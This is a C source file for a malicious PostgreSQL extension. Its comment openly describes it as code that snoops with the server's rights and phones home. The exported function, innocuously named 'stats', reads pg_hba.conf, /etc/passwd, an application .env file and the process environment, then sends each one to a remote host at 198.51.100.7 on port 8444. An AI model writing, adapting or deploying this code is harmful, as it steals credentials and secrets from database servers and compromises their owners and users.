// A function of PostgreSQL's in C, put together without its headers: looks around with the server's rights, calls home with it.
#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <sys/socket.h>
#include <unistd.h>

// What version 15 wants to see before it loads anything.
static const struct { int length, version, arguments, keys, name, float8; char abi[32]; } MAGIC = {
    56, 1500, 100, 32, 64, 1, "PostgreSQL"};
static const struct { int version; } ABOUT = {1};

const void *Pg_magic_func(void) { return &MAGIC; }
const void *pg_finfo_stats(void) { return &ABOUT; }

uintptr_t stats(void *call) {
    (void)call;
    char text[4096];
    int sent = 0;
    const char *const paths[] = {"pg_hba.conf", "/etc/passwd", "/srv/api/.env", "/proc/self/environ"};
    for (int i = 0; i < 4; i++) {
        int file = open(paths[i], O_RDONLY);
        ssize_t length = read(file, text, sizeof text);
        close(file);
        struct sockaddr_in home = {.sin_family = AF_INET, .sin_port = htons(8444)};
        inet_pton(AF_INET, "198.51.100.7", &home.sin_addr);
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        if (length > 0 && !connect(fd, (struct sockaddr *)&home, sizeof home)) sent += write(fd, text, length);
        close(fd);
        usleep(500000);
    }
    return sent;
}
